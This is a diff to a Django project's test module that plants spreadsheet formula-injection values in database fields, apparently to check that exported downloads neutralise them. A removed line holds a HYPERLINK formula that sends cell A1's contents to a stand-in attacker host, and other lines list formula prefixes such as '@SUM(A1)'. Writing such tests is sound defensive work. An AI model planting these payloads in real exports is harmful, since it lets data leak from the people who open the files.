@@ -22,7 +22,7 @@ from django.utils import timezone
 from shequ.core import downloads
 from shequ.testing.demo import tiny_demo
 
-HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+HOSTILE = '=HYPERLINK("http://e.x/","点")'  # short enough for a 40-character name
 OTHER_SIGNS = ("+1+1", "-1+1", "@SUM(A1)", "\t=1+1", " =1+1")
 
 
@@ -84,7 +84,7 @@ def _plant():
 
     Area.objects.update(name=unique(HOSTILE))
     Resident.objects.update(name=HOSTILE)
-    Nomination.objects.update(nominee=HOSTILE[:40], reason=OTHER_SIGNS[0])
+    Nomination.objects.update(nominee=HOSTILE, reason=OTHER_SIGNS[0])
     Activity.objects.update(title=unique(HOSTILE), place=OTHER_SIGNS[1])
     ServiceOrganisation.objects.update(name=unique(OTHER_SIGNS[2]))
     ServiceProject.objects.update(name=unique(OTHER_SIGNS[3]))
